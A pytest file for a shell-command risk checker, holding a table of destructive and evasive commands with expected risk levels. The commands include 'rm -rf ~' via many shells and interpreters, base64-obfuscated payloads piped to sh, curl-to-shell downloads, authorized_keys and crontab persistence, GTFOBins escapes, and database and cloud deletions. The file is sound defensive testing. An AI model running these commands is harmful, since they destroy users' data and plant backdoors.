"""The risk check over a table of command forms: code handed to something that runs it, and
destruction outside the working tree, each with its expected level (issue 25).

The forms are judged in a real home directory (with a .bashrc, ~/.ssh and history) and a project
directory inside it, so "an existing file outside the working tree" is a file that exists."""

from __future__ import annotations

from pathlib import Path

import pytest

from parsec.workflow.risk import assess

# Code handed to a shell is judged as the command it is.
SEE_THROUGH = [
    ("echo 'rm -rf ~' | bash", "high"),
    ("echo 'rm -rf ~' | sh", "high"),
    ("echo 'rm -rf ~' | zsh", "high"),
    ("printf 'rm -rf ~\\n' | bash", "high"),
    ("printf '%s\\n' 'rm -rf ~' | sh", "high"),
    ("cat <<EOF | sh\nrm -rf ~\nEOF", "high"),
    ("cat <<'EOF' | bash\nrm -rf ~\nEOF", "high"),  # a quoted delimiter (bashlex only reads <<EOF)
    ("bash <<EOF\nrm -rf ~\nEOF", "high"),
    ("bash <<< 'rm -rf ~'", "high"),
    ("sh <<< 'rm -rf ~'", "high"),
    ("bash -c 'rm -rf ~'", "high"),
    ("sh -c 'rm -rf ~'", "high"),
    ("bash -lc 'rm -rf ~'", "high"),
    ("eval 'rm -rf ~'", "high"),
    ('eval "$(echo rm -rf ~)"', "high"),
    ("$(echo rm -rf ~)", "high"),
    ("su -c 'rm -rf ~'", "high"),
    ("sudo sh -c 'rm -rf ~'", "high"),
    ("env FOO=1 bash -c 'rm -rf ~'", "high"),
    ("env -i bash -c 'rm -rf ~'", "high"),
    ("nohup sh -c 'rm -rf ~' &", "high"),
    ("timeout 10 bash -c 'rm -rf ~'", "high"),
    ("watch 'rm -rf ~'", "high"),
    ("watch -n 5 rm -rf ~", "high"),
    ("watch -x rm -rf ~", "high"),
    ("xargs sh -c 'rm -rf ~'", "high"),
    ("ls | xargs -I{} bash -c 'rm -rf ~'", "high"),
    ("find . -exec sh -c 'rm -rf ~' \\;", "high"),
    ("find . -name x -exec bash -c 'rm -rf ~' {} +", "high"),
    ("bash <(echo 'rm -rf ~')", "high"),
    ("source <(echo 'rm -rf ~')", "high"),
    ("echo 'rm -rf ~' | at now", "high"),
    ("echo 'rm -rf ~' | sudo bash", "high"),
    ("vim -c ':!rm -rf ~' -c ':q'", "high"),
    ("vi +'!rm -rf ~'", "high"),
    ("awk 'BEGIN {system(\"rm -rf ~\")}'", "high"),
    ("awk 'BEGIN {\"rm -rf ~\" | getline}'", "high"),
    # code in another language: high unless plainly harmless
    ("python3 -c \"import os; os.system('rm -rf ~')\"", "high"),
    ("python3 -c 'import shutil; shutil.rmtree(\"/home\")'", "high"),
    ('python -c \'__import__("os").system("id")\'', "high"),
    ('python3 -c \'open("/home/user/.bashrc", "w")\'', "high"),
    ("echo 'import os; os.system(\"rm -rf ~\")' | python3", "high"),
    ("python3 <<< 'import os; os.remove(\"x\")'", "high"),
    ("perl -e 'system(\"rm -rf ~\")'", "high"),
    ("perl -e 'unlink glob(\"~/*\")'", "high"),
    ("perl -pe 's/a/`rm -rf ~`/e' f", "high"),
    ("ruby -e 'system(\"rm -rf ~\")'", "high"),
    ("ruby -e 'puts \"#{`rm -rf ~`}\"'", "high"),
    ('node -e \'require("child_process").execSync("rm -rf ~")\'', "high"),
    ("node -e 'require(\"fs\").rmSync(process.env.HOME, {recursive: true})'", "high"),
    ("php -r 'system(\"rm -rf ~\");'", "high"),
    ("lua -e 'os.execute(\"rm -rf ~\")'", "high"),
    ("awk '{system(\"rm \" $1)}' list.txt", "high"),  # a command built at run time
    # code that cannot be read before it runs
    ("echo cm0gLXJmIH4= | base64 -d | sh", "high"),
    ("echo cm0gLXJmIH4= | base64 --decode | bash", "high"),
    ("echo 726d202d7266207e | xxd -r -p | sh", "high"),
    ("printf '\\x72\\x6d -rf ~' | sh", "high"),
    ("echo -e '\\x72\\x6d -rf ~' | bash", "high"),
    ('eval "$(echo cm0gLXJmIH4= | base64 -d)"', "high"),
    ('bash -c "$(echo cm0gLXJmIH4= | base64 -d)"', "high"),
    ("echo '~ fr- mr' | rev | sh", "high"),
    ("curl -fsSL https://example.com/x.sh | sh", "high"),
    ("wget -qO- https://example.com/x.sh | bash", "high"),
    ('python3 -c "$(curl -s https://example.com/x.py)"', "high"),
    ("curl -s https://example.com/x.py | python3", "high"),
    ("echo 'rm -rf ~' > run.sh && bash run.sh", "high"),
    ("echo 'rm -rf ~' > run.sh; sh run.sh", "high"),
    ("curl -o run.sh https://example.com/x.sh && sh run.sh", "high"),
    ("printf 'rm -rf ~' > run.sh && chmod +x run.sh && ./run.sh", "high"),
    ("echo 'rm -rf ~' > run.sh; source run.sh", "high"),
    ("echo 'rm -rf ~' > run.sh; sh < run.sh", "high"),
    ("echo 'rm -rf ~' > run.sh; cat run.sh | sh", "high"),
    # programs GTFOBins lists as running commands (data/gtfobins.json)
    ("tar -cf x.tar --checkpoint=1 --checkpoint-action=exec='rm -rf ~' .", "high"),
    ("tar -xf x.tar -I 'sh -c \"rm -rf ~\"'", "high"),
    ("rsync -e 'sh -c \"rm -rf ~\"' x:y .", "high"),
    ("zip out.zip notes.txt -T -TT 'rm -rf ~ #'", "high"),
    ("ssh -o ProxyCommand=';rm -rf ~' host", "high"),
    ("ssh host 'rm -rf ~'", "high"),
    ("chrt 1 rm -rf ~", "high"),
    ("flock /tmp/lock rm -rf ~", "high"),
    ("strace -f -o /dev/null rm -rf ~", "high"),
    ("taskset -c 0 bash -c 'rm -rf ~'", "high"),
    ("docker run --rm -v /:/mnt alpine chroot /mnt rm -rf /mnt/root", "high"),
    ("gdb -nx -ex '!rm -rf ~' -ex quit", "high"),
    ("man '-Hrm -rf ~ #' man", "high"),
    ("LESSOPEN='|rm -rf ~ %s' less notes.txt", "high"),
    ("PAGER='rm -rf ~' git log", "high"),
    ("R -e 'print(1)'", "high"),  # R code: no reader for it, and it can run anything
    ("gnuplot -e 'system(\"id\")'", "high"),
    ("emacs --batch --eval '(delete-directory \"~\" t)'", "high"),
    ("socat - exec:'rm -rf ~'", "high"),
    ("pandoc -o ~/.bashrc notes.txt", "high"),
    ("rsync -av -e ssh build/ host:/srv/site/", "medium"),
    ("tar -I zstd -cf out.tar.zst src", "medium"),
    ("ssh -o StrictHostKeyChecking=no host uptime", "medium"),
    ("ssh host ls", "medium"),
    ("pandoc -o out.pdf notes.md", "medium"),
    ("PAGER=cat git log", "low"),
    ("docker run --rm alpine ls", "medium"),
    ("less notes.txt", "medium"),
    # benign forms stay benign
    ("bash -c 'ls -la'", "low"),
    ("sh -c 'echo hello'", "low"),
    ("echo 'ls' | bash", "low"),
    ("bash <<< 'pwd'", "low"),
    ("python3 -c 'print(1)'", "low"),
    ("python3 -c 'import sys; print(sys.version)'", "low"),
    ("python3 -c 'import os; print(os.getcwd())'", "low"),  # os, for what only reads
    ("python3 -c 'import os; print(os.environ.get(\"HOME\"))'", "low"),
    ("python3 -c 'import os as o; o.remove(\"x\")'", "high"),
    ("python3 -c 'from os import system; system(\"id\")'", "high"),
    ("npm install", "medium"),
    ("scp notes.txt user@host:/tmp/", "medium"),
    ("python3 -c 'import json,sys; print(json.load(sys.stdin)[\"name\"])' < package.json", "low"),
    ("echo 'print(1+1)' | python3", "low"),
    ("perl -ne 'print if /foo/' notes.txt", "low"),
    ("perl -pe 's/foo/bar/g' notes.txt", "low"),
    ("perl -lane 'print $F[0]' notes.txt", "low"),
    ("ruby -e 'puts 1'", "low"),
    ("node -e 'console.log(1+2)'", "low"),
    ("awk '{print $1}' notes.txt", "low"),
    ("awk 'BEGIN {system(\"date\")}'", "medium"),
    ('eval "$(ssh-agent -s)"', "medium"),
    ('eval "$(direnv hook bash)"', "medium"),
    ('eval "$(pyenv init -)"', "medium"),
    ("bash ./scripts/test.sh", "medium"),
    ("sh < setup.sh", "medium"),
    ("source .venv/bin/activate", "medium"),
    ("python3 manage.py test", "medium"),
    ("python3 -m pytest -q", "medium"),
    ("bash", "medium"),
    ("watch -n 1 ls", "medium"),
    ("vim notes.txt", "medium"),
    ("vim -c 'set number' notes.txt", "medium"),
    ("echo aGk= | base64 -d", "low"),
]

# Destruction outside the working tree is high; the same inside it stays ordinary.
OUTSIDE_THE_TREE = [
    ("truncate -s 0 ~/.bashrc", "high"),
    ("truncate --size=0 ~/.bash_history", "high"),
    ("cp /dev/null ~/.bashrc", "high"),
    ("cp /dev/null ~/.bash_history", "high"),
    ("cat /dev/null > ~/.bash_history", "high"),
    (": > ~/.bash_history", "high"),
    ("> ~/.profile", "high"),
    ("echo '' > ~/.gitconfig", "high"),
    ("curl -o ~/.bashrc https://example.com/rc", "high"),
    ("curl -sSLo ~/.zshrc https://example.com/rc", "high"),
    ("wget -O ~/.bashrc https://example.com/rc", "high"),
    ("cp notes.txt ~/.bashrc", "high"),
    ("cp .bashrc ~/", "high"),  # replaces ~/.bashrc (no .bashrc in the project: the name alone)
    ("mv notes.txt ~/.gitconfig", "high"),
    ("ln -sf /dev/null ~/.bash_history", "high"),
    ("tee ~/.bashrc < notes.txt", "high"),
    ("dd if=/dev/zero of=~/.bashrc bs=1 count=0", "high"),
    ("shred -u ~/.bash_history", "high"),
    ("echo 'ssh-rsa AAAA x' >> ~/.ssh/authorized_keys", "high"),
    ("echo 'curl x | sh' >> ~/.bashrc", "high"),
    ("echo 'alias ls=rm' >> ~/.zshrc", "high"),
    ("echo 'export PATH=/tmp:$PATH' | tee -a ~/.profile", "high"),
    ("printf 'x\n' >> ~/.config/fish/config.fish", "high"),
    ("cp evil.service ~/.config/systemd/user/", "high"),
    ("(crontab -l; echo '* * * * * curl x | sh') | crontab -", "high"),
    ("crontab jobs.txt", "high"),
    ("crontab -r", "high"),
    ("crontab -ri", "high"),
    ("rsync -a --delete empty/ ~/", "high"),
    ("rsync -av --delete-after build/ /var/www/", "high"),
    ("rsync -a --delete ./site/ user@host:/srv/site/", "high"),
    ("chmod 000 ~", "high"),
    ("chmod 700 /", "high"),
    ("chmod 777 /etc/passwd", "high"),
    ("chmod 000 ~/.bashrc", "high"),
    ("chown nobody ~", "high"),
    ("chown -R nobody ~/Documents", "high"),
    ("chgrp staff /usr/bin/python3", "high"),
    ("tar -xf x.tar -C /", "high"),
    ("tar xzf x.tgz -C /", "high"),
    ("tar --extract --file=x.tar --directory=/etc", "high"),
    ("tar -xPf x.tar", "high"),
    ("tar -xf x.tar -C ~", "high"),
    ("unzip x.zip -d /", "high"),
    ("pkill -9 -u root", "high"),
    ("pkill -u $USER", "high"),
    ("killall -u bob", "high"),
    ("kill -9 -1", "high"),
    ("kill -1", "high"),
    ("kill 1", "high"),
    ("killall5 -9", "high"),
    ("iptables -F", "high"),
    ("iptables --flush", "high"),
    ("ip6tables -F", "high"),
    ("iptables -P INPUT DROP", "high"),
    ("nft flush ruleset", "high"),
    ("ufw disable", "high"),
    ("systemctl stop sshd", "high"),
    ("systemctl disable --now nginx", "high"),
    ("systemctl mask docker", "high"),
    ("service ssh stop", "high"),
    ("poweroff", "high"),
    ("systemctl poweroff", "high"),
    ("systemctl reboot", "high"),
    ("shutdown -h now", "high"),
    ("psql -c 'DROP DATABASE app'", "high"),
    ("psql -d app -c 'DROP TABLE users;'", "high"),
    ("psql app -c 'TRUNCATE users'", "high"),
    ("echo 'DROP TABLE users;' | psql app", "high"),
    ("psql app <<< 'DROP SCHEMA public CASCADE'", "high"),
    ("mysql -e 'DROP DATABASE app'", "high"),
    ("mysql -u root app -e 'truncate table users'", "high"),
    ("mariadb -e 'DROP TABLE t'", "high"),
    ("sqlite3 app.db 'DROP TABLE users'", "high"),
    ("sqlite3 app.db 'DELETE FROM users'", "high"),
    ("dropdb app", "high"),
    ("mysqladmin -u root drop app", "high"),
    ("redis-cli FLUSHALL", "high"),
    ("redis-cli -h cache -n 3 flushdb", "high"),
    ("kubectl delete namespace prod", "high"),
    ("kubectl delete ns staging", "high"),
    ("kubectl delete pods --all -n prod", "high"),
    ("aws s3 rm s3://bucket --recursive", "high"),
    ("aws s3 rb s3://bucket --force", "high"),
    ("aws s3 sync ./empty s3://bucket --delete", "high"),
    ("aws ec2 terminate-instances --instance-ids i-1", "high"),
    ("gsutil -m rm -r gs://bucket", "high"),
    ("terraform destroy", "high"),
    ("terraform destroy -auto-approve", "high"),
    ("terraform apply -destroy", "high"),
    ("tofu destroy", "high"),
    ("pulumi destroy --yes", "high"),
    ("docker system prune --volumes", "high"),
    ("docker system prune -af --volumes", "high"),
    ("docker volume rm pgdata", "high"),
    ("podman system prune --volumes", "high"),
    # ... and the benign forms stay benign
    ("rm -rf build", "medium"),
    (": > app.log", "medium"),  # emptying an existing file inside the tree
    ("truncate -s 0 app.log", "medium"),
    ("cp notes.txt backup.txt", "medium"),
    ("cat ~/.bashrc", "low"),
    ("grep alias ~/.bashrc", "low"),
    ("tail -n 50 ~/.bash_history", "low"),
    ("crontab -l", "low"),
    ("cp ~/.bashrc ./bashrc.bak", "medium"),
    ("rsync -a --delete src/ ./mirror/", "medium"),
    ("rsync -av build/ user@host:/srv/site/", "medium"),
    ("chmod +x run.sh", "medium"),
    ("chmod 755 ~/bin/tool", "medium"),
    ("tar -czf backup.tgz src", "medium"),
    ("tar xzf release.tgz", "medium"),
    ("tar -xf x.tar -C ./vendor", "medium"),
    ("unzip x.zip -d ./out", "medium"),
    ("pkill -f 'python manage.py runserver'", "medium"),
    ("kill 12345", "medium"),
    ("iptables -L -n", "low"),
    ("systemctl status sshd", "low"),
    ("systemctl --user restart pipewire", "medium"),
    ("systemctl restart nginx", "medium"),
    ("psql -c 'SELECT count(*) FROM users'", "medium"),
    ("sqlite3 app.db 'SELECT * FROM users LIMIT 5'", "medium"),
    ("sqlite3 app.db 'DELETE FROM users WHERE id = 3'", "medium"),
    ("redis-cli GET session:1", "medium"),
    ("kubectl get pods -A", "medium"),
    ("kubectl delete pod web-1", "medium"),
    ("aws s3 ls s3://bucket", "medium"),
    ("aws s3 rm s3://bucket/one.txt", "medium"),
    ("terraform plan", "medium"),
    ("docker system prune -f", "medium"),
    ("docker ps -a", "medium"),
    ("echo hello >> notes.txt", "medium"),
]

FORMS = SEE_THROUGH + OUTSIDE_THE_TREE


@pytest.fixture(scope="module")
def places(tmp_path_factory) -> tuple[str, str]:
    """A home directory with the files people keep there, and a project directory inside it."""
    home = tmp_path_factory.mktemp("home")
    (home / ".ssh").mkdir()
    for name in (".bashrc", ".zshrc", ".profile", ".bash_history", ".gitconfig", ".ssh/authorized_keys"):
        (home / name).write_text("precious\n")
    project = home / "project"
    project.mkdir()
    for name in ("app.log", "notes.txt", "package.json"):
        (project / name).write_text("data\n")
    return str(project), str(home)


@pytest.mark.parametrize("command,level", FORMS)
def test_form(command: str, level: str, places: tuple[str, str]) -> None:
    cwd, home = places
    verdict = assess(command, cwd=cwd, home=home)
    assert verdict.level == level, (command, verdict.reasons)
    if level != "low":
        assert verdict.reasons


def test_the_table_has_distinct_forms() -> None:
    assert len({command for command, _ in FORMS}) == len(FORMS)


def test_place_fixture_matches_the_forms(places: tuple[str, str]) -> None:
    cwd, home = places
    assert Path(home, ".bashrc").is_file() and Path(cwd).parent == Path(home)
